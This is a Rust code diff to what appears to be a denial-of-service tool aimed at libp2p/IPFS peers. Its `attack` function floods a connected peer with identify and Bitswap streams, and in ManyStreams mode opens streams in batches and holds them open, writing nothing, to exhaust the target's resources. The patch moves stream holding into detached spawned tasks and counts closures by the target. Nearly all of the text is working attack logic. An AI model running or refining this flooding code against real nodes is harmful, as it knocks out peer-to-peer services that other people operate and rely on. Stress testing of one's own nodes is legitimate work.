@@ -34,6 +34,7 @@ pub(super) async fn run(
     while let Ok(peer) = connected.recv().await {
         // A fresh connection: whatever ran on the last one has failed by now.
         let task = attack(
+            ex.clone(),
             control.clone(),
             peer,
             opts.clone(),
@@ -90,6 +91,7 @@ fn varint(mut v: u64, out: &mut Vec<u8>) {
 const MAX_FAILED_OPENS_COUNT: u32 = 20;
 
 async fn attack(
+    ex: Arc<smol::Executor<'static>>,
     mut control: libp2p_stream::Control,
     peer: PeerId,
     opts: Options,
@@ -98,7 +100,7 @@ async fn attack(
 ) {
     let mut rng = Rng::new(seed);
     let mut failed = 0u32;
-    let mut held: Vec<libp2p::Stream> = Vec::new();
+    let mut held = 0usize;
     while failed < MAX_FAILED_OPENS_COUNT {
         let proto = match opts.mode {
             Mode::IdentifyFlood if rng.below(2) == 0 => "/ipfs/id/1.0.0",
@@ -108,7 +110,7 @@ async fn attack(
             _ => BITSWAP,
         };
         if opts.mode == Mode::ManyStreams {
-            if held.len() >= opts.count {
+            if held >= opts.count {
                 // Hold them; check now and then that the connection lives.
                 Timer::after(Duration::from_millis(200)).await;
                 if open(&mut control, peer, BITSWAP, &counters).await.is_none() {
@@ -116,16 +118,26 @@ async fn attack(
                 }
                 continue;
             }
-            let batch = STREAM_BATCH_COUNT.min(opts.count - held.len());
+            let batch = STREAM_BATCH_COUNT.min(opts.count - held);
             let opens = (0..batch).map(|_| {
                 let mut c = control.clone();
                 let counters = counters.clone();
                 async move { open(&mut c, peer, BITSWAP, &counters).await }
             });
             let got: Vec<_> = futures::future::join_all(opens).await;
-            let before = held.len();
-            held.extend(got.into_iter().flatten());
-            if held.len() == before {
+            let before = held;
+            for mut s in got.into_iter().flatten() {
+                held += 1;
+                // Hold it, writing nothing; count it when the target closes it.
+                let counters = counters.clone();
+                ex.spawn(async move {
+                    let mut b = [0u8; 1];
+                    let _ = s.read(&mut b).await;
+                    add(&counters.streams_closed);
+                })
+                .detach();
+            }
+            if held == before {
                 failed += 1;
                 Timer::after(FLOOD_PAUSE).await;
             } else {
